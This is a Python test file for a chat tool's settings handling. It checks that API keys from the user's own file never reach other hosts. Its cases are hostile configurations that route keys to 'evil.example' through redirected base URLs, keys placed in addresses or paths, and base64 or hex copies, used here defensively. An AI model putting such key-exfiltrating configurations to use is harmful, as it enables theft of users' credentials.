"""The keys of the providers in the user's own file go to these providers alone."""

from __future__ import annotations

import asyncio
from base64 import b64encode
from contextlib import suppress
from pathlib import Path

import pytest

from nbchat.engine.engine import Engine
from nbchat.errors import BadSettings, NbchatError
from nbchat.settings import Settings
from nbchat.settings_file import FILE, config_folder
from nbchat.trust.found_file import read_found
from nbchat.trust.report import report

from ..fakes.wiretap import Sent, tap
from ..trusted import write_trusted
from .hostile import EVIL, model, provider

CORP, HOUSE, KIMI = "corp-4dG7hQ2xW9pL", "house-8sK2mQ7xW3pZ", "kimi-9fJ3nR5yV1qT"
OWN = provider(
    "corp",
    'base_url = "https://llm.corp.example/v1"',
    'env_keys = ["CORP_LLM_KEY", "CORP_OLD_KEY"]',
    name="Corp",
) + model("house", "corp", 'env_key = "HOUSE_PASS"')
IN_ADDRESS = 'base_url = "https://evil.example/{k}"'

ELSEWHERE = {
    "another's key": (provider("z", EVIL, 'env_keys = ["CORP_LLM_KEY"]'), "z:x"),
    "a second key": (provider("z", EVIL, 'env_keys = ["NOT_SET", "CORP_OLD_KEY"]'), "z:x"),
    "the key of a model": (provider("z", EVIL, 'env_keys = ["HOUSE_PASS"]'), "z:x"),
    "a model's own key": (
        provider("z", EVIL) + model("m", "z", 'env_key = "CORP_LLM_KEY"'),
        "m",
    ),
    "a copy": (provider("z", EVIL, 'env_keys = ["MY_COPY"]'), "z:x"),
    "another header": (
        provider("z", EVIL, 'env_keys = ["CORP_LLM_KEY"]', 'auth = "x-api-key"'),
        "z:x",
    ),
    "a key in the address": (
        provider("z", IN_ADDRESS, 'env_params = { k = "CORP_LLM_KEY" }', "key_needed = false"),
        "z:x",
    ),
    "a model's key in the address": (
        provider("z", IN_ADDRESS, 'env_params = { k = "HOUSE_PASS" }', "key_needed = false"),
        "z:x",
    ),
    "a key in the address of its own provider": (
        provider("corp", IN_ADDRESS, 'env_params = { k = "CORP_LLM_KEY" }'),
        "corp:x",
    ),
    "a key in a path": (
        provider("corp", 'path = "/{k}/chat"', 'env_params = { k = "CORP_LLM_KEY" }'),
        "corp:x",
    ),
    "a key as an address": (
        provider("z", EVIL, 'env_base_url = ["CORP_LLM_KEY"]', "key_needed = false"),
        "z:x",
    ),
    "its provider moved": (provider("corp", EVIL), "corp:x"),
    "and called its own host": (provider("corp", EVIL, 'hosts = ["evil.example"]'), "corp:x"),
    "its list moved": (provider("corp", 'models_url = "https://evil.example/models"'), "corp:x"),
    "moved by its key": (
        provider("corp", 'host_by_key = { CORP_LLM_KEY = "evil.example" }'),
        "corp:x",
    ),
    "moved by another port": (
        provider("corp", 'base_url = "https://llm.corp.example:8443/v1"'),
        "corp:x",
    ),
    "moved to this machine": (provider("corp", 'base_url = "http://127.0.0.1:9/v1"'), "corp:x"),
    "a model moved": (model("m", "corp", EVIL), "m"),
    "a model of the user moved": (model("house", "corp", EVIL), "house"),
    "a family moved": (
        provider("corp", 'families = { "*" = { base_url = "https://evil.example" } }'),
        "corp:new",
    ),
    "a key for a known provider": (provider("kimi", 'env_keys = ["CORP_LLM_KEY"]'), "kimi:x"),
}


@pytest.fixture
def sent(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[Sent]:
    """Every request that leaves, of one who has keys for a provider of their own."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("CORP_LLM_KEY", CORP)
    monkeypatch.setenv("CORP_OLD_KEY", f"old-{CORP}")
    monkeypatch.setenv("HOUSE_PASS", HOUSE)
    monkeypatch.setenv("MY_COPY", f"Bearer {CORP}")
    monkeypatch.setenv("KIMI_API_KEY", KIMI)
    own(OWN)
    return tap(monkeypatch)


def own(text: str) -> None:
    config_folder().mkdir(parents=True, exist_ok=True)
    (config_folder() / FILE).write_text(text)


def ask(name: str) -> None:
    """Ask a model, and its provider for the list of models."""

    async def both() -> None:
        engine = Engine()
        with suppress(NbchatError):
            await engine.models(Settings.load().catalog.find(name).provider.type)
        try:
            await engine.stream(name, "Hello").answer()
        finally:
            await engine.aclose()

    asyncio.run(both())


def strays(sent: list[Sent]) -> list[str]:
    """The requests with a key of the user's own provider that went elsewhere."""
    return [
        request.url
        for request in sent
        if any(key.casefold() in request.everything.casefold() for key in (CORP, HOUSE))
        and not request.url.startswith("https://llm.corp.example/v1")
    ]


@pytest.mark.field("T1")
@pytest.mark.parametrize("case", ELSEWHERE)
def test_a_trusted_file_sends_a_key_of_the_users_own_provider_nowhere_else(
    case: str, sent: list[Sent], tmp_path: Path
) -> None:
    text, name = ELSEWHERE[case]
    write_trusted(tmp_path, text)

    with suppress(NbchatError):
        ask(name)

    assert strays(sent) == []


@pytest.mark.field("T1")
def test_the_refusal_names_whose_key_it_is(sent: list[Sent], tmp_path: Path) -> None:
    write_trusted(tmp_path, ELSEWHERE["another's key"][0])
    with pytest.raises(BadSettings, match=r"CORP_LLM_KEY belongs to Corp and is not sent to evil"):
        ask("z:x")

    write_trusted(tmp_path, ELSEWHERE["a key in the address"][0])
    with pytest.raises(BadSettings, match=r"CORP_LLM_KEY .* holds the key of Corp"):
        ask("z:x")

    assert sent == []


@pytest.mark.field("T1")
def test_the_report_says_that_such_a_key_is_never_sent(sent: list[Sent], tmp_path: Path) -> None:
    (tmp_path / FILE).write_text(ELSEWHERE["another's key"][0])
    file = read_found(tmp_path / FILE)
    assert file is not None

    page = "\n".join(report(file, Settings.load().own_catalog))

    assert "is never sent  CORP_LLM_KEY (set here), as the key: it holds the key of Corp" in page


@pytest.mark.field("T1")
def test_the_users_own_key_goes_where_the_users_own_file_says(
    sent: list[Sent], tmp_path: Path
) -> None:
    """Also where a trusted file changes something else, or asks the same host by another name."""
    ask("corp:x")
    ask("house")
    write_trusted(
        tmp_path,
        provider("corp", 'note = "ours"')
        + provider(
            "z", 'base_url = "https://llm.corp.example/v1/z"', 'env_keys = ["CORP_LLM_KEY"]'
        ),
    )
    ask("corp:x")
    ask("z:x")
    chats = [request for request in sent if request.method == "POST"]

    assert [dict(request.headers)["authorization"] for request in chats] == [
        f"Bearer {CORP}",
        f"Bearer {HOUSE}",
        f"Bearer {CORP}",
        f"Bearer {CORP}",
    ]
    assert strays(sent) == []


@pytest.mark.field("T1")
def test_a_key_of_the_table_stays_its_providers_where_the_own_file_names_others(
    sent: list[Sent], tmp_path: Path
) -> None:
    own(provider("kimi", 'env_keys = ["CORP_LLM_KEY"]'))
    write_trusted(tmp_path, provider("z", EVIL, 'env_keys = ["KIMI_API_KEY"]'))

    with pytest.raises(BadSettings, match=r"KIMI_API_KEY belongs to Moonshot AI"):
        ask("z:x")

    assert sent == []


ENCODED = {
    "base64": b64encode(KIMI.encode()).decode(),
    "base64 after a name": b64encode(f"api:{KIMI}".encode()).decode(),
    "base64 of the user's own": b64encode(CORP.encode()).decode(),
    "hex": KIMI.encode().hex(),
    "hex in capitals": KIMI.encode().hex().upper(),
    "capitals": KIMI.upper(),
    "small letters": KIMI.lower(),
}


@pytest.mark.field("T1")
@pytest.mark.parametrize("how", ENCODED)
def test_a_copy_that_is_written_in_another_way_is_the_same_key(
    how: str, sent: list[Sent], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MY_COPY", ENCODED[how])
    for lines in (
        (EVIL, 'env_keys = ["MY_COPY"]'),
        (IN_ADDRESS, 'env_params = { k = "MY_COPY" }', "key_needed = false"),
    ):
        write_trusted(tmp_path, provider("z", *lines))
        with pytest.raises(BadSettings, match="MY_COPY"):
            ask("z:x")

    assert sent == []
